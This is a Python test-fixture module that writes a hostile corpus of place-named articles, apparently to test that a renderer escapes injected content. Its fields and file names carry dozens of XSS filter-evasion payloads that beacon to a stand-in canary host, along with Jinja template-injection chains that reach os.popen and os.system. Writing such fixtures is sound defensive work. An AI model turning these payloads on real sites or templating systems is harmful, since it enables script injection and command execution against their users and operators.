"""A hostile corpus: XSS and template payloads in every field of an article and in file names.

Every XSS payload, if it ever ran, would request ``http://canary.test/<n>`` (written with
``\\x2f`` so it fits in a file name), and the browser tests count such requests: the canary
each payload would set. Template payloads would show ``49`` or create a file.
"""
from __future__ import annotations

import json
from pathlib import Path

CANARY_HOST = "canary.test"


def act(n: int) -> str:
    """JavaScript that reports payload ``n`` firing, with no '/' and no double quote."""
    return f"new Image().src='http:\\x2f\\x2f{CANARY_HOST}\\x2f{n}'"


_XSS = (
    "<script>{a}</script>",
    "<img src=x onerror=\"{a}\">",
    "<IMG SRC=x OnErRoR=\"{a}\">",
    "<svg onload=\"{a}\">",
    "<svg><script>{a}</script></svg>",
    "\"><script>{a}</script>",
    "'><img src=x onerror=\"{a}\">",
    "</script><script>{a}</script>",
    "<body onload=\"{a}\">",
    "<details open ontoggle=\"{a}\">",
    "<input autofocus onfocus=\"{a}\">",
    "<video><source onerror=\"{a}\"></video>",
    "<audio src=x onerror=\"{a}\">",
    "<iframe src=\"javascript:{a}\"></iframe>",
    "<iframe srcdoc=\"<img src=x onerror=&quot;{a}&quot;>\"></iframe>",
    "<object data=\"javascript:{a}\"></object>",
    "<embed src=\"javascript:{a}\">",
    "<a href=\"javascript:{a}\" id=xss>click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{a}\">",
    "<!--><img src=x onerror=\"{a}\">-->",
    "</textarea><img src=x onerror=\"{a}\">",
    "</title><img src=x onerror=\"{a}\">",
    "</style><img src=x onerror=\"{a}\">",
    "</div></li></ul><img src=x onerror=\"{a}\">",
    "<scr<script>ipt>{a}</scr</script>ipt>",
    "<marquee onstart=\"{a}\">x</marquee>",
    "<select autofocus onfocus=\"{a}\"></select>",
    "<textarea autofocus onfocus=\"{a}\"></textarea>",
    "<keygen autofocus onfocus=\"{a}\">",
    "<form><button formaction=\"javascript:{a}\">x</button></form>",
    "<isindex type=image src=x onerror=\"{a}\">",
    "<img src=x:x onerror=&#x6e;&#x65;&#x77;&#x20;Image().src='http:\\x2f\\x2fcanary.test\\x2fx'>",
    "` + ({a}) + `",
    "${{{a}}}",
    "'-({a})-'",
    "\";({a});//",
    "\\u2028({a})",
    "<style>@import 'http:\\\\2f\\\\2f canary.test';</style>",
    "<link rel=stylesheet href=\"http:\\x2f\\x2fcanary.test\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{a}\">",
    "<base href=\"javascript:{a}\">",
    "[click](javascript:{a})",
    "<img src=\"javascript:{a}\">",
    "<table background=\"javascript:{a}\">",
    "<div style=\"background:url(javascript:{a})\">x</div>",
    "<svg><animate onbegin=\"{a}\" attributeName=x dur=1s>",
)
XSS_PAYLOADS = tuple(p.replace("{a}", act(i)) for i, p in enumerate(_XSS))

TEMPLATE_PAYLOADS = (
    "{{ 7*7 }}",
    "{% if 1 %}x{% endif %}",
    "{{ oops",
    "{% raw %}",
    "{# comment",
    "{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}",
    "{{ joiner.__init__.__globals__.os.system('touch {canary}') }}",
    "{{ config.items() }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{'map'}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
)

#: Places the seed corpus names, so each payload lands in a quote of a mapped place.
_PLACES = ("Damascus", "Moscow", "Aleppo", "Tartus")


def template_payloads(canary: Path) -> list[str]:
    return [p.replace("{canary}", str(canary)) for p in TEMPLATE_PAYLOADS]


def write_corpus(folder: Path, canary: Path) -> list[Path]:
    """One article per place, each field hostile; returns the files written.

    Bodies put a quarter of the XSS payloads and every template payload in sentences
    naming a place; front matter carries payloads
    in ``source``, ``title``, ``url`` and ``published``; some file names carry them too.
    """
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for i, place in enumerate(_PLACES):
        group = list(XSS_PAYLOADS[i::len(_PLACES)]) + template_payloads(canary)
        body = "\n\n".join(f"Officials in {place} said {p} people marched." for p in group)
        meta = {"source": f"Outlet {i} {group[0]}", "title": group[-1],
                "url": group[1 % len(group)], "published": group[2 % len(group)]}
        front = "\n".join(f"{k}: {json.dumps(v)}" for k, v in meta.items())
        name = f"{i:02d}_" + _file_name(group[3 % len(group)])
        path = folder / name
        path.write_text(f"---\n{front}\n---\n{place} ({group[0]}) - {body}\n", encoding="utf-8")
        written.append(path)
    return written


def _file_name(payload: str) -> str:
    """A payload as a legal file name (no '/', at most 200 bytes) ending in .txt."""
    name = payload.replace("/", "\u2215")
    while len(name.encode("utf-8")) > 200:
        name = name[:-1]
    return name + ".txt"
